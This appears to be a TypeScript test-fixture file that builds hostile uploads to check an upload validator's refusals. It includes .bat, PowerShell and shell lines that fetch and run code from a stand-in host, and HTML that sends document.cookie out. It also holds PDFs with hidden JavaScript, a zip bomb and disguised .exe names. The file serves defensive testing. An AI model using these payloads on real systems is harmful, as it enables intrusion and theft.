import { PDFDocument, PDFName, PDFString, StandardFonts } from 'pdf-lib';
import { objectStream, pdf } from './pdf-writer.js';
import { zip } from './zip-writer.js';
import { FILES } from './files.js';

/**
 * Records an attacker uploads, built here (no binary fixtures): what issue 20 saw marked received, and what
 * would get past checks that read less. Each comes with the refusal code it must get.
 */

const CATALOG = '<< /Type /Catalog /Pages 2 0 R >>';
const PAGES = '<< /Type /Pages /Kids [] /Count 0 >>';

/** A real one-page PDF, as pdf-lib writes it (its objects in compressed object streams). */
export async function cleanPdf(
  text = 'Pathology report: invasive ductal carcinoma, grade 2',
): Promise<Buffer> {
  const document = await PDFDocument.create();
  const font = await document.embedFont(StandardFonts.Helvetica);
  document.addPage().drawText(text, { font, x: 50, y: 700, size: 12 });
  return Buffer.from(await document.save());
}

/** pdf-lib's PDF with a JavaScript /OpenAction: it lands in a Flate-compressed object stream. */
export async function pdfWithJavaScriptInObjectStream(): Promise<Buffer> {
  const document = await PDFDocument.load(await cleanPdf());
  const action = document.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of('app.alert(1)') });
  document.catalog.set(PDFName.of('OpenAction'), document.context.register(action));
  return Buffer.from(await document.save({ useObjectStreams: true }));
}

/** A TIFF header (little-endian) and one empty-ish IFD: what file-type reads as a TIFF. */
export const tiff = () =>
  Buffer.from([0x49, 0x49, 0x2a, 0, 8, 0, 0, 0, 1, 0, 0, 1, 3, 0, 1, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0]);

export const HOSTILE_TEXT = {
  /** An HTML application: mshta runs it with full rights. */
  hta: '<html><head><hta:application id="report" windowstate="minimize"/></head>\n<script language="VBScript">CreateObject("WScript.Shell").Run "calc"</script></html>\n',
  bat: '@echo off\r\npowershell -w hidden -c "iwr http://203.0.113.9/x.exe -o %TEMP%\\x.exe"\r\nstart %TEMP%\\x.exe\r\n',
  ps1: '$c = New-Object Net.WebClient\nIEX ($c.DownloadString("http://203.0.113.9/stage2"))\n',
  /** JScript for Windows Script Host (a .js file double-clicked on Windows runs in wscript). */
  js: 'var shell = new ActiveXObject("WScript.Shell");\nshell.Run("cmd /c calc", 0);\n',
  sh: '#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n',
  html: '<!doctype html>\n<p>Lab results</p>\n<img src=x onerror="fetch(\'//203.0.113.9/\'+document.cookie)">\n',
  svg: '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.domain)</script></svg>\n',
} as const;

export const HOSTILE_PDF = {
  /** /OpenAction /JavaScript, in plain sight. */
  openActionJavaScript: () =>
    pdf(['<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>', PAGES]),
  /** The same, hidden in a Flate-compressed object stream: nothing readable in the file's bytes. */
  javaScriptInObjectStream: () =>
    pdf([
      '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>',
      PAGES,
      objectStream([[4, '<< /S /JavaScript /JS (app.alert(1)) >>']]),
    ]),
  /** `/J#61vaScript` is /JavaScript to every reader. */
  escapedName: () =>
    pdf([
      '<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>',
      PAGES,
      '<< /S /J#61vaScript /J#53 (app.alert(1)) >>',
    ]),
  /** A PDF that is also a web page: HTML right after the header, script included. */
  htmlPolyglot: () =>
    pdf([CATALOG, PAGES], {
      prefix: '<html><body><script>fetch("//203.0.113.9/?c="+document.cookie)</script>\n',
    }),
  /** A program attached inside the PDF. */
  embeddedFile: () =>
    pdf([
      '<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(setup.exe) 3 0 R] >> >> >>',
      PAGES,
      '<< /Type /Filespec /F (setup.exe) /EF << /F 4 0 R >> >>',
      { dict: '<< /Type /EmbeddedFile /Length 2 >>', stream: Buffer.from('MZ') },
    ]),
  encrypted: () =>
    pdf([CATALOG, PAGES, '<< /Filter /Standard /V 2 /R 3 /Length 128 /P -3904 >>'], {
      trailer: '/Root 1 0 R /Encrypt 3 0 R',
    }),
} as const;

const JPEG_A = Buffer.concat([FILES.jpeg(), Buffer.alloc(2_000, 0x11)]);
const JPEG_B = Buffer.concat([FILES.jpeg(), Buffer.alloc(3_000, 0x22)]);

export const HOSTILE_ZIP = {
  /** A Windows program (MZ header) named like a scan. */
  withExecutable: () =>
    zip([
      { name: 'scan-1.jpg', content: JPEG_A },
      { name: 'scan-2.jpg', content: FILES.windowsExe() },
    ]),
  /** A ZIP inside the ZIP, named like an image: found by its bytes, not its name. */
  nested: () => zip([{ name: 'series/image-0001.jpg', content: zip([{ name: 'x.jpg', content: JPEG_A }]) }]),
  /** A member with the encryption flag set (general-purpose bit 0). */
  encryptedMember: () => zip([{ name: 'report.pdf', content: FILES.pdf(), flags: 0x1 }]),
  /** 20 MiB of zeros deflated to about 20 KiB: a thousandfold. */
  bomb: () => zip([{ name: 'notes.txt', content: Buffer.alloc(20 * 1024 * 1024, 0) }]),
  /** Two JPEGs and a PDF: every member allowed. */
  clean: async () =>
    zip([
      { name: 'imaging/scan-1.jpg', content: JPEG_A },
      { name: 'imaging/scan-2.jpeg', content: JPEG_B, method: 'stored' },
      { name: 'pathology.pdf', content: await cleanPdf() },
    ]),
} as const;

/** Names that lie: a right-to-left override makes `scan\u202Efdp.exe` read "scanexe.pdf". */
export const BIDI_NAMES = {
  override: 'scan\u202efdp.exe',
  isolate: 'report\u2067fdp.\u2069exe',
  embedding: 'lab\u202bresults\u202c.pdf',
} as const;
